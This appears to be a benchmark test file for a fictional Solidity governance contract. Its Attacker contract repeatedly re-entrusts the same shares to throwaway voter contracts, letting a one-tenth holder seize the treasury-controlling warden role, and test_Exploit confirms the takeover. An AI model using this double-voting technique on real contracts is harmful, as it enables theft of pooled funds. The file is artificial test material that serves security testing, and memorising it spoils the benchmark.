// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./SaltmarshAssembly.sol";

// assay-canary-84881d9c-3a68-4d5c-90ec-3ce8c7e6a131

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Votes when it is told to.
contract Mouth {
    function vote(SaltmarshAssembly assembly_, uint256 id) external {
        assembly_.vote(id);
    }
}

/// A tenth of the common, heard six times.
contract Attacker {
    SaltmarshAssembly internal assembly_;
    uint256 internal id;

    function join(SaltmarshAssembly a) external {
        assembly_ = a;
    }

    function canvass() external {
        uint256 mine = assembly_.freeShares(address(this));
        assembly_.entrust(address(this), mine);
        id = assembly_.nominate(address(this));
        assembly_.recall();
        for (uint256 i = 0; i < 6; ++i) {
            Mouth m = new Mouth();
            assembly_.entrust(address(m), mine);
            m.vote(assembly_, id);
            try assembly_.recall() {} catch {
                break;
            }
        }
    }

    function run() external {
        assembly_.settle(id);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    SaltmarshAssembly internal assembly_;
    Attacker internal gull;
    address[] internal members;

    function setUp() public {
        vm.warp(1_700_000_000);
        gull = new Attacker();
        for (uint160 i = 1; i < 10; ++i) members.push(address(0xC0000 + i));
        members.push(address(gull));
        assembly_ = new SaltmarshAssembly(members, 100, address(0xDEE));
        vm.deal(address(assembly_), 50 ether);
        gull.join(assembly_);
    }

    function test_Regular() public {
        address ada = members[0];
        for (uint256 i = 0; i < 6; ++i) {
            vm.prank(members[i]);
            assembly_.entrust(i < 4 ? ada : members[i], 100);
        }
        require(assembly_.voices(ada) == 400, "entrusted");
        vm.prank(members[1]);
        require(!_try(abi.encodeCall(assembly_.pass, (ada, 1))), "entrusted shares stay");
        vm.prank(members[8]);
        require(!_try(abi.encodeCall(assembly_.nominate, (ada))), "no voices");
        vm.prank(members[4]);
        uint256 id = assembly_.nominate(ada);
        vm.prank(members[3]);
        assembly_.recall();
        vm.prank(members[3]);
        assembly_.entrust(members[3], 100);
        _vote(ada, id);
        _vote(members[3], id);
        _vote(members[4], id);
        vm.prank(ada);
        require(!_try(abi.encodeCall(assembly_.vote, (id))), "once");
        vm.prank(members[4]);
        require(!_try(abi.encodeCall(assembly_.recall, ())), "engaged");
        require(!_try(abi.encodeCall(assembly_.settle, (id))), "still open");
        _vote(members[5], id);
        vm.warp(block.timestamp + 10 days);
        assembly_.settle(id);
        require(assembly_.warden() == ada, "six tenths elect");
        vm.prank(members[4]);
        assembly_.recall();
        vm.prank(members[4]);
        assembly_.pass(address(0x5), 100);
        require(assembly_.freeShares(address(0x5)) == 100, "passed on");
        vm.prank(ada);
        assembly_.spend(address(0xD1CE), 2 ether, "sluice");
        require(address(0xD1CE).balance == 2 ether, "spent");

        vm.prank(members[5]);
        id = assembly_.nominate(members[5]);
        _vote(members[5], id);
        vm.warp(block.timestamp + 10 days);
        assembly_.settle(id);
        require(assembly_.warden() == ada, "a tenth does not elect");

        uint256 held = address(assembly_).balance;
        (bool paid, ) = address(assembly_).call{value: 1 ether}("");
        require(paid && address(assembly_).balance == held + 1 ether, "paid in");
    }

    function _vote(address who, uint256 id) private {
        vm.prank(who);
        assembly_.vote(id);
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok, ) = address(assembly_).call(data);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Shares are entrusted once, to somebody, and only where there are any.
    function test_RefusesShares() public {
        bytes memory none = abi.encodeWithSelector(SaltmarshAssembly.TooFewShares.selector, 100);
        refuses(members[0], SaltmarshAssembly.NotEntrusted.selector);
        assembly_.entrust(address(0), 1);
        refuses(members[0], SaltmarshAssembly.NotEntrusted.selector);
        assembly_.recall();
        refuses(members[0], none);
        assembly_.pass(members[1], 0);
        refuses(members[0], none);
        assembly_.pass(members[1], 101);
        vm.prank(members[0]);
        assembly_.entrust(members[1], 40);
        refuses(members[0], abi.encodeWithSelector(SaltmarshAssembly.AlreadyEntrusted.selector, members[1]));
        assembly_.entrust(members[2], 40);
    }

    /// Nominations are voted on in time and settled once; ether goes to who takes it.
    function test_RefusesNominations() public {
        vm.prank(members[0]);
        assembly_.entrust(members[0], 100);
        vm.prank(members[0]);
        uint256 id = assembly_.nominate(members[0]);
        vm.warp(block.timestamp + 10 days);
        refuses(members[0], SaltmarshAssembly.Closed.selector);
        assembly_.vote(id);
        assembly_.settle(id);
        vm.expectRevert(SaltmarshAssembly.SettledAlready.selector);
        assembly_.settle(id);
        refuses(address(0xDEE), SaltmarshAssembly.Unpaid.selector);
        assembly_.spend(address(this), 1 ether, "takes no ether");
    }

    function exploit() public {
        gull.canvass();
        vm.warp(block.timestamp + 10 days);
        gull.run();
    }

    function test_Exploit() public {
        exploit();
        require(assembly_.warden() == address(gull), "not elected");
    }

    function target() public view returns (address) {
        return address(assembly_);
    }

    function attacker() public view returns (address) {
        return address(gull);
    }
}
